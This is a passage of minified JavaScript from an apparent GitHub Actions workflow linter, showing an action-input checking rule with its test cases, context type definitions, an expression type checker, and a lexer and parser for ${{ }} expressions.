`},check({model:n,files:e,path:t,report:s}){let i=()=>n.memoize("projectRoot",()=>yt(t,e));for(let{job:r,step:o}of xe(n)){if(!o.uses||!o.usesNode||o.uses.includes("${{"))continue;let a=o.uses.trim(),c,l=!0,u=Ve(a);if(u){let g=i();if(!g)continue;let w=kp(g,a,e);if(!w&&u.kind==="workspace"&&r){let v=xa(n,r.steps,o.index,u.path);v?.thisRepository&&(w=kp(g,`./${v.rest}`,e))}if(!w)continue;if(c=w.inputs,w.using==="docker"){c=new Map(c);for(let v of["entrypoint","args"])c.has(v)||c.set(v,{name:v,required:!1,hasDefault:!0})}}else{let g=ct(a);if(!g)continue;let w=wa(g.name);if(!w?.inputs)continue;let v=g.ref;if(Yb(g.ref)&&(v=Wb(o.usesNode.comment??(o.node.flow?o.node.comment:void 0))??"",!v))continue;let O=ba(v);if(O!==void 0&&w.inputsSince!==void 0&&O<w.inputsSince||O!==void 0&&w.current.startsWith("v")&&O>Number(w.current.slice(1)))continue;c=j_(w),l=!1}let p=new Map;for(let g of o.with?.items??[]){let w=P(g.key);w!==void 0&&p.set(w.toLowerCase(),{name:w,pair:g})}let d=c,f,h=new Set;for(let[g,w]of p){let v=n.keyRange(w.pair),O=c.get(g);if(O?.deprecated){s({message:`avoid using deprecated input ${JSON.stringify(w.name)} in action ${JSON.stringify(a)}: ${O.deprecated}`,range:v,severity:"warning"});continue}if(O)continue;f??=[...d.values()].filter(A=>!A.deprecated).map(A=>A.name);let S=ae(w.name,f)??f.find(A=>A.replace(/[-_]/g,"").toLowerCase()===w.name.replace(/[-_]/g,"").toLowerCase());S&&h.add(S),s({message:`input ${JSON.stringify(w.name)} is not defined in action ${JSON.stringify(a)}. available inputs are ${f.sort().map(A=>JSON.stringify(A)).join(", ")||"none"}`+(S?`. Did you mean ${JSON.stringify(S)}?`:""),range:v,severity:l?void 0:"warning",fixes:S&&!p.has(S.toLowerCase())?[{title:`Change to "${S}"`,preferred:!0,edits:[{range:v,newText:S}]}]:void 0})}let m=[...c.values()].filter(g=>g.required&&!g.hasDefault&&!p.has(g.name.toLowerCase()));m.length&&s({message:`missing input${m.length>1?"s":""} ${m.map(g=>JSON.stringify(g.name)).join(", ")} which ${m.length>1?"are":"is"} required by action ${JSON.stringify(a)}`,range:n.rangeOf(o.usesNode),fixes:P_(n,o,m.map(g=>g.name).filter(g=>!h.has(g)))})}},tests:[{name:"popular actions: unknown (warning) and missing required inputs",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-node@v4
        with:
          node_version: 20
      - uses: actions/setup-java@v4
        with:
          java-version: 21
      - uses: pypa/gh-action-pypi-publish@release/v1
        with:
          packages_dir: dist
`,expect:[{line:8,col:11,message:'input "node_version" is not defined in action "actions/setup-node@v4"',severity:"warning"},{line:9,col:15,message:'missing input "distribution" which is required'},{line:14,col:11,message:'deprecated input "packages_dir"',severity:"warning"}]},{name:"fix: adds missing required inputs to with:, creating it when needed",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-java@v4
        with:
          java-version: 21
      - uses: actions/setup-java@v4
        name: java
      - run: echo
`,expect:[{line:6,col:15},{line:9,col:15}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-java@v4
        with:
          java-version: 21
          distribution: ''
      - uses: actions/setup-java@v4
        name: java
        with:
          distribution: ''
      - run: echo
`},{name:"local actions",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: ./.github/actions/build
        with:
          targt: x
      - uses: ./.github/actions/docker
        with:
          args: --help
`,files:{".github/actions/build/action.yml":`name: b
description: d
inputs:
  target:
    description: t
    required: true
  level:
    required: true
    default: "1"
runs:
  using: composite
  steps: []
`,".github/actions/docker/action.yml":`name: d
description: d
runs:
  using: docker
  image: Dockerfile
`},expect:[{line:6,col:15,message:'missing input "target"'},{line:8,col:11,message:'Did you mean "target"',severity:"warning"}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: ./.github/actions/build
        with:
          target: x
      - uses: ./.github/actions/docker
        with:
          args: --help
`},{name:"a commit SHA is checked as the version its comment names",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-node@0123456789abcdef0123456789abcdef01234567 # v4
        with:
          node_version: 20
      - uses: actions/setup-java@0123456789abcdef0123456789abcdef01234567 #v4.2.1
      - uses: actions/setup-java@0123456789ABCDEF0123456789abcdef01234567 # tag=v4.1.1
        with: {distribution: temurin, java_version: 21}
      - {uses: actions/setup-java@0123456789abcdef0123456789abcdef01234567} # pin@v4
`,expect:[{line:8,col:11,message:'input "node_version" is not defined in action "actions/setup-node@0123456789abcdef0123456789abcdef01234567"',severity:"warning"},{line:9,col:15,message:'missing input "distribution"'},{line:11,col:39,message:'input "java_version" is not defined',severity:"warning"},{line:12,col:16,message:'missing input "distribution"'}]},{name:"a commit SHA without a version comment, or of a major the data does not describe, is not checked",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/download-artifact@0123456789abcdef0123456789abcdef01234567 # v99
        with:
          brand-new-input: x
      - uses: actions/download-artifact@0123456789abcdef0123456789abcdef01234567
        with:
          brand-new-input: x
      - uses: actions/setup-java@0123456789abcdef0123456789abcdef01234567 # 2024-05-01 pinned
      - uses: actions/setup-node@0123456789abcdef0123456789abcdef01234567 # v1.4.0
        with:
          version: 10
`,expect:[]},{name:"self-repository actions ($/) are read like local ones",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: $/.github/actions/hello
        with:
          whoo: me
      - uses: $/.github/actions/hello
        with:
          who: me
`,files:{".github/actions/hello/action.yml":`name: h
description: d
inputs:
  who:
    description: w
    required: true
runs:
  using: composite
  steps: []
`},expect:[{line:6,col:15,message:'missing input "who" which is required by action "$/.github/actions/hello"'},{line:8,col:11,message:'input "whoo" is not defined in action "$/.github/actions/hello". available inputs are "who". Did you mean "who"?',severity:"warning"}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: $/.github/actions/hello
        with:
          who: me
      - uses: $/.github/actions/hello
        with:
          who: me
`},{name:"a local action inside a checkout of this repository into a folder is read from the repository",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          path: action
      - uses: ./action
        with:
          tags: x
          tag: y
`,files:{"action.yml":`name: a
description: d
inputs:
  tags:
    description: t
runs:
  using: node20
  main: index.js
`},expect:[{line:12,col:11,message:'input "tag" is not defined in action "./action". available inputs are "tags". Did you mean "tags"?'}]},{name:"valid inputs, old majors and unknown actions are not checked",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          fetch-depth: 0
          Token: x
      - uses: actions/setup-node@v2
        with:
          whatever: 1
      - uses: actions/github-script@v7
        with:
          script: console.log(1)
      - uses: someone/else@v1
        with:
          anything: 1
`,expect:[]}]},tw=q_;var V={k:"any"},Pi={k:"null"},je={k:"number"},fe={k:"bool"},I={k:"string"};function te(n){let e=new Map;if(n instanceof Map)for(let[t,s]of n)e.set(t.toLowerCase(),s);else if(n)for(let t of Object.keys(n))e.set(t.toLowerCase(),n[t]);return{k:"object",props:e,strict:!0}}function De(n){return{k:"object",props:te(n).props,strict:!1}}function Fe(n){return{k:"object",props:new Map,mapped:n,strict:!1}}function Le(n,e=!1){return{k:"array",elem:n,deref:e}}function le(n){switch(n.k){case"object":return n.mapped&&n.props.size===0?`{string => ${le(n.mapped)}}`:n.props.size===0&&!n.strict?"object":`{${[...n.props.keys()].sort().map(t=>`${t}: ${le(n.props.get(t))}`).join("; ")}}`;case"array":return`array<${le(n.elem)}>`;default:return n.k}}function Oa(n,e){if(n.k==="any"||e.k==="any")return!0;switch(n.k){case"null":return e.k==="null";case"number":return e.k==="number";case"bool":return!0;case"string":return e.k==="string"||e.k==="number";case"object":if(e.k!=="object")return!1;for(let[t,s]of n.props){let i=e.props.get(t);if(i&&!Oa(s,i))return!1}return!0;case"array":return e.k==="array"&&Oa(n.elem,e.elem)}}function Ze(n,e){if(n.k==="any"||e.k==="any")return V;if(n.k==="object"&&e.k==="object"){if(n.props.size===0&&!n.mapped&&n.strict&&e.props.size>0)return e;let t=new Map(n.props);for(let[i,r]of e.props){let o=t.get(i);t.set(i,o?Ze(o,r):r)}let s=n.mapped&&e.mapped?Ze(n.mapped,e.mapped):n.mapped??e.mapped;return{k:"object",props:t,mapped:s,strict:n.strict&&e.strict}}return n.k==="array"&&e.k==="array"?n.elem.k==="any"?n:e.elem.k==="any"?e:Le(Ze(n.elem,e.elem)):n.k===e.k||n.k==="string"&&e.k==="number"?n:n.k==="number"&&e.k==="string"?e:V}function Ii(n){if(n===null)return Pi;if(typeof n=="string")return I;if(typeof n=="number")return je;if(typeof n=="boolean")return fe;if(Array.isArray(n))return n.length===0?Le(V):Le(n.map(Ii).reduce(Ze));if(typeof n=="object"){let e=te();for(let[t,s]of Object.entries(n))e.props.set(t.toLowerCase(),Ii(s));return e}return V}var on=["env","github","inputs","job","matrix","needs","runner","secrets","steps","strategy","vars"],bt=["github","inputs","matrix","needs","strategy","vars"],sw={"run-name":["github","inputs","vars"],concurrency:["github","inputs","vars"],env:["github","inputs","secrets","vars"],"defaults.run.shell":[],"on.workflow_call.inputs.<inputs_id>.default":["github","inputs","vars"],"on.workflow_call.outputs.<output_id>.value":["github","inputs","jobs","vars"],"jobs.<job_id>.name":bt,"jobs.<job_id>.concurrency":bt,"jobs.<job_id>.container":bt,"jobs.<job_id>.container.image":bt,"jobs.<job_id>.continue-on-error":bt,"jobs.<job_id>.environment":bt,"jobs.<job_id>.runs-on":bt,"jobs.<job_id>.services":bt,"jobs.<job_id>.timeout-minutes":bt,"jobs.<job_id>.with.<with_id>":bt,"jobs.<job_id>.snapshot.if":bt,"jobs.<job_id>.strategy":["github","inputs","needs","vars"],"jobs.<job_id>.if":["github","inputs","needs","vars"],"jobs.<job_id>.env":["github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.secrets.<secrets_id>":["github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.defaults.run":["env","github","inputs","matrix","needs","strategy","vars"],"jobs.<job_id>.container.credentials":["env","github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.services.<service_id>.credentials":["env","github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.container.env.<env_id>":["env","github","inputs","job","matrix","needs","runner","secrets","strategy","vars"],"jobs.<job_id>.services.<service_id>.env.<env_id>":["env","github","inputs","job","matrix","needs","runner","secrets","strategy","vars"],"jobs.<job_id>.environment.url":["env","github","inputs","job","matrix","needs","runner","steps","strategy","vars"],"jobs.<job_id>.outputs.<output_id>":on,"jobs.<job_id>.steps.if":["env","github","inputs","job","matrix","needs","runner","steps","strategy","vars"],"jobs.<job_id>.steps.continue-on-error":on,"jobs.<job_id>.steps.env":on,"jobs.<job_id>.steps.name":on,"jobs.<job_id>.steps.run":on,"jobs.<job_id>.steps.timeout-minutes":on,"jobs.<job_id>.steps.with":on,"jobs.<job_id>.steps.working-directory":on,"jobs.<job_id>.steps.id":[],"jobs.<job_id>.steps.shell":[]},Rp="https://docs.github.com/en/actions/learn-github-actions/contexts#context-availability",xp;function Op(){xp||(xp=[...te({...(t=>Object.fromEntries(t.split(/\s+/).filter(Boolean).map(s=>[s,I])))(`action action_path action_ref action_repository action_status actor actor_id api_url base_ref env event_name
      event_path graphql_url head_ref job output path ref ref_name ref_type repository repository_id repository_owner
      repository_owner_id repository_visibility repositoryurl run_attempt run_id run_number secret_source server_url sha
      state step_summary token triggering_actor workflow workflow_ref workflow_sha workspace`),artifact_cache_size_limit:je,retention_days:je,ref_protected:fe}).props]);let n=new Map(xp);return n.set("event",De()),{k:"object",props:n,strict:!0}}function Sp(){return te({name:I,os:I,arch:I,temp:I,tool_cache:I,debug:I,environment:I,workspace:I})}function Mp(){return te({check_run_id:je,container:te({id:I,network:I}),services:Fe(te({id:I,network:I,ports:Fe(I)})),status:I,workflow_ref:I,workflow_sha:I,workflow_repository:I,workflow_file_path:I})}function Ap(){return De({"fail-fast":fe,"job-index":je,"job-total":je,"max-parallel":je})}var nw;function iw(){return nw??={github:Op(),env:Fe(I),job:Mp(),runner:Sp(),secrets:Fe(I),strategy:Ap(),vars:Fe(I),matrix:De(),needs:De(),steps:De(),inputs:De()},{...nw}}var Sa={contains:[{name:"contains",ret:fe,params:[I,I],pure:!0},{name:"contains",ret:fe,params:[Le(V),V],pure:!0}],startswith:[{name:"startsWith",ret:fe,params:[I,I],pure:!0}],endswith:[{name:"endsWith",ret:fe,params:[I,I],pure:!0}],format:[{name:"format",ret:I,params:[I,V],variadic:!0,pure:!0}],join:[{name:"join",ret:I,params:[Le(I),I],pure:!0},{name:"join",ret:I,params:[Le(I)],pure:!0}],tojson:[{name:"toJSON",ret:I,params:[V],pure:!0}],fromjson:[{name:"fromJSON",ret:V,params:[I]}],hashfiles:[{name:"hashFiles",ret:I,params:[I],variadic:!0}],success:[{name:"success",ret:fe,params:[]}],always:[{name:"always",ret:fe,params:[]}],cancelled:[{name:"cancelled",ret:fe,params:[]}],failure:[{name:"failure",ret:fe,params:[]}],case:[{name:"case",ret:V,params:[fe,V,V],variadic:!0,pure:!0}]},rw={always:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],cancelled:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],failure:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],success:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],hashfiles:["jobs.<job_id>.steps.continue-on-error","jobs.<job_id>.steps.env","jobs.<job_id>.steps.if","jobs.<job_id>.steps.name","jobs.<job_id>.steps.run","jobs.<job_id>.steps.timeout-minutes","jobs.<job_id>.steps.with","jobs.<job_id>.steps.working-directory"]};function Np(n){return`${n.name}(${n.params.map(le).join(", ")}${n.variadic?"...":""}) -> ${le(n.ret)}`}function ow(n){let e=new Set,t=0;for(;t<n.length;){let s=n[t];if(s==="{"){if(n[t+1]==="{"){t+=2;continue}let i=/^\{(\d+)\}/.exec(n.slice(t));if(i){e.add(Number(i[1])),t+=i[0].length;continue}return{used:e,badAt:t}}if(s==="}"){if(n[t+1]==="}"){t+=2;continue}return{used:e,badAt:t}}t++}return{used:e}}function aw(n){let e=n%100>=11&&n%100<=13?"th":["th","st","nd","rd"][n%10]??"th";return`${n}${e}`}function U_(n){if(n.type==="string")return n.value;if(n.type==="number"||n.type==="bool")return String(n.value);if(n.type==="null")return""}function ji(n){return n.map(e=>`"${e}"`).join(", ")}var Ss=class{constructor(e){this.env=e;this.available=e.workflowKey!==void 0?sw[e.workflowKey]:void 0}env;diags=[];available;report(e,t,s,i){this.diags.push({rule:e,message:s,start:t.start,end:t.end,severity:i})}check(e){switch(e.type){case"null":return Pi;case"bool":return fe;case"number":return je;case"string":return I;case"var":return this.checkVar(e);case"prop":return this.checkProp(e);case"filter":return this.checkFilter(e);case"index":return this.checkIndex(e);case"call":return this.checkCall(e);case"not":return this.check(e.operand),fe;case"binary":return e.op==="&&"||e.op==="||"?this.checkLogical(e):this.checkCompare(e)}}checkVar(e){let t=e.name.toLowerCase(),s=this.env.vars[t];if(!s){let i=Object.keys(this.env.vars).sort();return this.report("undefined-reference",e,`undefined variable "${e.name}". available variables are ${ji(i)}`),V}if(this.available&&!this.available.includes(t)){let i=this.available,r=i.length===0?"no context is available here":i.length===1?`available context is ${ji(i)}`:`available contexts are ${ji(i)}`;this.report("context-availability",e,`context "${e.name}" is not allowed here. ${r}. see ${Rp} for more details`)}return s}missing(e,t,s,i=""){let r=this.env.hints?.get(e)?.(t);this.report("undefined-reference",s,`property "${t}" is not defined in object type ${le(e)}${i}${r?`. ${r}`:""}`)}checkProp(e){let t=this.check(e.object),s=e.name.toLowerCase(),i={start:e.nameStart,end:e.end};switch(t.k){case"any":return V;case"object":{let r=t.props.get(s);return r||(t.mapped?t.mapped:(t.strict&&this.missing(t,e.name,i),V))}case"array":{if(!t.deref)break;let r=t.elem;if(r.k==="any")return t;if(r.k==="object"){let o=V,a=r.props.get(s);return a?o=a:r.mapped?o=r.mapped:r.strict&&this.missing(r,e.name,i," as element of filtered array"),Le(o,!0)}return this.report("expression-type",i,`property filtered by "${e.name}" at object filtering must be type of object but got "${le(r)}"`),V}}return this.report("expression-type",i,`receiver of object dereference "${e.name}" must be type of object but got "${le(t)}"`),V}checkFilter(e){let t=this.check(e.object);switch(t.k){case"any":return Le(V,!0);case"array":return Le(t.elem,!0);case"object":{if(t.mapped)return t.mapped.k==="object"?Le(t.mapped,!0):t.mapped.k==="any"?Le(V,!0):Le(t.mapped,!0);if(!t.strict)return Le(V,!0);let s;for(let i of t.props.values())s=s?Ze(s,i):i;return Le(s??V,!0)}}return this.report("expression-type",e,`receiver of object filtering \`.*\` must be type of array or object but got "${le(t)}"`),V}checkIndex(e){let t=this.check(e.index),s=this.check(e.object);switch(s.k){case"any":return V;case"array":return t.k==="any"||t.k==="number"||e.index.type==="string"&&/^\d+$/.test(e.index.value)?s.elem:(this.report("expression-type",e.index,`index access of array must be type of number but got "${le(t)}"`),V);case"object":if(t.k==="any")return s.mapped??V;if(t.k==="string"||t.k==="number"||t.k==="bool"||t.k==="null"){let i=U_(e.index);if(i!==void 0){let r=s.props.get(i.toLowerCase());return r||(s.mapped?s.mapped:(s.strict&&this.missing(s,i,e.index),V))}if(s.mapped)return s.mapped;if(s.strict&&(t.k==="number"||t.k==="bool")){let r=t.k==="number"?/^-?\d+(\.\d+)?$/:/^(true|false)$/;[...s.props.keys()].some(o=>r.test(o))||this.report("expression-type",e.index,`property access of object must be type of string but got "${le(t)}": GitHub reads the key of its text (such as "${t.k==="number"?"1":"true"}"), which this object does not have, so the result is always null`)}return V}return this.report("expression-type",e.index,`property access of object must be type of string but got "${le(t)}"`),V}return this.report("expression-type",e,`index access operand must be type of object or array but got "${le(s)}"`),V}signatureError(e,t,s){let i=t.params.length,r=s.length;if(t.variadic&&r<i||!t.variadic&&r!==i)return{rule:"expression-type",start:e.start,end:e.nameEnd,message:`number of arguments is wrong. function "${Np(t)}" takes ${t.variadic?"at least ":""}${i} parameters but ${r} arguments are given`};for(let o=0;o<r;o++){let a=t.params[Math.min(o,i-1)];if(!Oa(a,s[o]))return{rule:"expression-type",start:e.args[o].start,end:e.args[o].end,message:`${aw(o+1)} argument of function call is not assignable. "${le(s[o])}" cannot be assigned to "${le(a)}". called function type is "${Np(t)}"`}}}checkCall(e){let t=e.name.toLowerCase(),s=Sa[t],i=e.args.map(c=>this.check(c));if(!s)return this.report("undefined-reference",{start:e.start,end:e.nameEnd},`undefined function "${e.name}". available functions are ${ji(Object.values(Sa).map(c=>c[0].name.toLowerCase()).sort())}`),V;let r,o=[];for(let c of s){let l=this.signatureError(e,c,i);if(!l){r=c;break}o.push(l)}if(!r){let c=o[0];return o.length>1&&(c.message+=`; ${o.slice(1).map(l=>l.message).join("; ")}`),this.diags.push(c),V}let a=rw[t];if(a&&(this.env.workflowKey===void 0||!a.includes(this.env.workflowKey))&&this.report("context-availability",{start:e.start,end:e.nameEnd},`calling function "${e.name}" is not allowed here. "${e.name}" is only available in ${ji(a)}. see ${Rp} for more details`),t==="format"&&e.args[0]?.type==="string"){let c=e.args[0].value,{used:l,badAt:u}=ow(c),p=e.args.length-1;u!==void 0&&this.report("expression-type",e.args[0],`format string "${c}" is invalid: unescaped "${c[u]}" at offset ${u}. write "{{" or "}}" for a literal brace`,"warning");for(let d=0;d<p;d++)l.has(d)||this.report("expression-type",{start:e.start,end:e.nameEnd},`format string "${c}" does not contain placeholder {${d}}. remove argument which is unused in the format string`,"warning");for(let d of[...l].sort((f,h)=>f-h))d>=p&&this.report("expression-type",{start:e.start,end:e.nameEnd},`format string "${c}" contains placeholder {${d}} but only ${p} arguments are given to format`)}else if(t==="fromjson"&&e.args[0]?.type==="string"){let c=e.args[0].value;try{return Ii(JSON.parse(c))}catch(l){let u=l.message,p=/position (\d+)/.exec(u),d=p?Number(p[1]):c.length,f=c.trim()===""||/end of (JSON|data)/i.test(u)?"unexpected end of JSON input":u.replace(/ in JSON at position \d+.*$/,"").replace(/^Unexpected/,"unexpected");this.report("expression-type",e.args[0],`broken JSON string is passed to fromJSON() at offset ${d}: ${f}`)}}else t==="case"&&e.args.length%2===0&&this.report("expression-type",{start:e.start,end:e.nameEnd},`case() requires an odd number of arguments (pred/value pairs + default) but got ${e.args.length}`);return r.ret}comparable(e,t,s){if(e==="=="||e==="!=")switch(t.k){case"any":case"null":return!0;case"number":case"bool":case"string":return s.k!=="object"&&s.k!=="array";case"object":return s.k==="object"||s.k==="null"||s.k==="any";case"array":return s.k==="array"?this.comparable(e,t.elem,s.elem):s.k==="null"||s.k==="any"}let i=r=>r.k==="any"||r.k==="number"||r.k==="string";return i(t)&&i(s)}checkCompare(e){let t=this.check(e.left),s=this.check(e.right);return this.comparable(e.op,t,s)||this.report("expression-type",e,`"${le(t)}" value cannot be compared to "${le(s)}" value with "${e.op}" operator`,"warning"),fe}narrowed(e,t){return e.type==="binary"&&e.op==="&&"&&t?(this.check(e.left),this.check(e.right)):e.type==="binary"&&e.op==="||"&&!t?(this.check(e.left),this.check(e.right)):e.type==="not"?(this.narrowed(e.operand,!t),fe):this.check(e)}checkLogical(e){let t=this.narrowed(e.left,e.op==="||");return Ze(t,this.check(e.right))}};function $n(n){switch(n.type){case"null":case"bool":case"number":case"string":return!0;case"var":case"prop":case"filter":case"index":return!1;case"not":return $n(n.operand);case"binary":return $n(n.left)&&$n(n.right);case"call":{let e=Sa[n.name.toLowerCase()];return!!e&&e.every(t=>t.pure)&&n.args.every($n)}}}var Ea=ie(require("node:path")),gw=ie(gt());var cw="expecting 'a'..'z', 'A'..'Z', '_', '0'..'9', ''', '}', '(', ')', '[', ']', '.', '!', '<', '>', '=', '&', '|', '*', ',', ' '";function uw(n){return n>="a"&&n<="z"||n>="A"&&n<="Z"||n==="_"}function Ep(n){return uw(n)||n>="0"&&n<="9"||n==="-"}function lw(n){return n>="0"&&n<="9"}function H_(n){return n===" "||n==="	"||n===`
`||n==="\r"}function pw(n,e=0){let t=[],s=e,i=n.length,r=(o,a,c=a+1)=>({tokens:t,end:i,error:{message:o,start:a,end:Math.min(Math.max(c,a+1),Math.max(i,a+1))}});for(;s<i;){let o=n[s];if(H_(o)){s++;continue}let a=s;if(o==="}")return n[s+1]==="}"?(t.push({kind:"end",text:"}}",start:a,end:s+2}),{tokens:t,end:s+2}):r("got unexpected character '}' while lexing expression, expecting '}}' to close the expression",s);if(uw(o)){for(s++;s<i&&Ep(n[s]);)s++;t.push({kind:"ident",text:n.slice(a,s),start:a,end:s});continue}if(lw(o)||o==="-"&&(lw(n[s+1]??"")||n[s+1]===".")){let u=/^-?(?:0x[0-9a-fA-F]+|0o[0-7]+|(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?)/.exec(n.slice(s,s+64));if(!u)return r("invalid number literal",s);if(s+=u[0].length,s<i&&(Ep(n[s])||n[s]===".")){let g=s;for(;g<i&&(Ep(n[g])||n[g]===".");)g++;return r(`invalid number literal "${n.slice(a,g)}"`,a,g)}let p=u[0],d=p.startsWith("-"),f=d?p.slice(1):p,h;/^0x/i.test(f)?h=parseInt(f.slice(2),16):/^0o/i.test(f)?h=parseInt(f.slice(2),8):h=Number(f),d&&(h=-h);let m=/[.eE]/.test(f)&&!/^0x/i.test(f);t.push({kind:m?"float":"int",text:p,start:a,end:s,value:h});continue}if(o==="'"){let u=s+1,p="";for(;;){if(u>=i)return r("got unexpected EOF while lexing end of string literal, expecting '''",a,i);if(n[u]==="'"){if(n[u+1]==="'"){p+="'",u+=2;continue}u++;break}p+=n[u],u++}t.push({kind:"string",text:n.slice(a,u),start:a,end:u,value:p}),s=u;continue}let c=n[s+1],l;if(c==="="?l=o==="<"?"<=":o===">"?">=":o==="="?"==":o==="!"?"!=":void 0:o==="&"&&c==="&"?l="&&":o==="|"&&c==="|"&&(l="||"),l){t.push({kind:l,text:l,start:a,end:s+2}),s+=2;continue}if("()[].,*!<>".includes(o)){t.push({kind:o,text:o,start:a,end:s+1}),s++;continue}if(o==="="||o==="&"||o==="|"){let u=o+o;return r(`got unexpected character '${o}' while lexing expression. did you mean '${u}'?`,s)}return r(o==='"'?`got unexpected character '"' while lexing expression, ${cw}. do you mean string literals? only single quotes are available for string delimiter`:`got unexpected character ${JSON.stringify(o)} while lexing expression, ${cw}`,s)}return{tokens:t,end:i,error:{message:'expression is not closed: "}}" is missing',start:Math.max(e-3,0),end:i}}}var Cn=class extends Error{constructor(t){super(t.message);this.err=t}err};function _p(n){return n.kind==="end"?'end of expression "}}"':n.kind==="ident"?`identifier "${n.text}"`:n.kind==="string"?`string literal ${n.text}`:n.kind==="int"||n.kind==="float"?`number ${n.text}`:`"${n.text}"`}var $p=class{constructor(e){this.toks=e}toks;i=0;peek(){return this.toks[this.i]}next(){return this.toks[this.i++]}fail(e,t){throw new Cn({message:`unexpected ${_p(e)} while parsing ${t}`,start:e.start,end:e.end})}expect(e,t){let s=this.peek();if(s.kind!==e)throw new Cn({message:`unexpected ${_p(s)} while parsing ${t}. expecting "${e==="end"?"}}":e}"`,start:s.start,end:s.end});return this.next()}parseAll(){if(this.peek().kind==="end"){let s=this.peek();throw new Cn({message:'expression is empty: write an expression between "${{" and "}}"',start:s.start,end:s.end})}let e=this.parseOr(),t=this.peek();return t.kind!=="end"&&this.fail(t,'end of expression. expecting "}}" or an operator'),e}parseOr(){let e=this.parseAnd();for(;this.peek().kind==="||";){let t=this.next(),s=this.parseAnd();e={type:"binary",op:"||",left:e,right:s,opStart:t.start,start:e.start,end:s.end}}return e}parseAnd(){let e=this.parseEq();for(;this.peek().kind==="&&";){let t=this.next(),s=this.parseEq();e={type:"binary",op:"&&",left:e,right:s,opStart:t.start,start:e.start,end:s.end}}return e}parseEq(){let e=this.parseCmp();for(;;){let t=this.peek().kind;if(t!=="=="&&t!=="!=")return e;let s=this.next(),i=this.parseCmp();e={type:"binary",op:t,left:e,right:i,opStart:s.start,start:e.start,end:i.end}}}parseCmp(){let e=this.parseUnary();for(;;){let t=this.peek().kind;if(t!=="<"&&t!=="<="&&t!==">"&&t!==">=")return e;let s=this.next(),i=this.parseUnary();e={type:"binary",op:t,left:e,right:i,opStart:s.start,start:e.start,end:i.end}}}parseUnary(){let e=this.peek();if(e.kind==="!"){this.next();let t=this.parseUnary();return{type:"not",operand:t,start:e.start,end:t.end}}return this.parsePostfix()}parsePostfix(){let e=this.parsePrimary();for(;;){let t=this.peek();if(t.kind==="."){this.next();let s=this.peek();s.kind==="*"?(this.next(),e={type:"filter",object:e,start:e.start,end:s.end}):s.kind==="ident"?(this.next(),e={type:"prop",object:e,name:s.text,nameStart:s.start,start:e.start,end:s.end}):this.fail(s,'property access. expecting a property name or "*" after "."')}else if(t.kind==="["){this.next();let s=this.parseOr(),i=this.expect("]","index access");e={type:"index",object:e,index:s,start:e.start,end:i.end}}else return e}}parsePrimary(){let e=this.next();switch(e.kind){case"ident":{if(this.peek().kind==="("){this.next();let t=[];if(this.peek().kind!==")")for(;;){t.push(this.parseOr());let i=this.peek();if(i.kind===","){this.next();continue}if(i.kind===")")break;this.fail(i,`arguments of function call "${e.text}". expecting "," or ")"`)}let s=this.expect(")",`function call "${e.text}"`);return{type:"call",name:e.text,nameEnd:e.end,args:t,start:e.start,end:s.end}}return e.text==="null"?{type:"null",start:e.start,end:e.end}:e.text==="true"||e.text==="false"?{type:"bool",value:e.text==="true",start:e.start,end:e.end}:e.text==="NaN"?{type:"number",value:NaN,text:e.text,start:e.start,end:e.end}:e.text==="Infinity"?{type:"number",value:1/0,text:e.text,start:e.start,end:e.end}:{type:"var",name:e.text,start:e.start,end:e.end}}case"int":case"float":return{type:"number",value:e.value,text:e.text,start:e.start,end:e.end};case"string":return{type:"string",value:e.value,start:e.start,end:e.end};case"(":{let t=this.parseOr(),s=this.peek();if(s.kind!==")")throw new Cn({message:`unbalanced parentheses: unexpected ${_p(s)}, expecting ")" to close "(" at offset ${e.start}`,start:s.start,end:s.end});return this.next(),{...t,start:t.start,end:t.end}}default:return this.fail(e,'expression. expecting a value, a variable, a function call or "("')}}};function Cp(n,e=0){let t=pw(n,e);if(t.error)return{error:t.error,end:t.end};try{return{node:new $p(t.tokens).parseAll(),end:t.end}}catch(s){if(s instanceof Cn)return{error:s.err,end:t.end};throw s}}function Ma(n){let e=Cp(n+"}}",0);return e.error&&e.error.start>=n.length&&(e.error={...e.error,start:Math.max(n.length-1,0),end:n.length}),{...e,end:Math.min(e.end,n.length)}}function fw(n,e){let t=[],s=0;for(let i=0;i<=n.length;i++)if(i===n.length||n[i]===`
`){let r=i;r>s&&n[r-1]==="\r"&&r--,t.push({text:n.slice(s,r),start:e+s}),s=i+1}return t}var Aa=/[ \t]/;function Dp(n,e,t){if(!n.includes(`
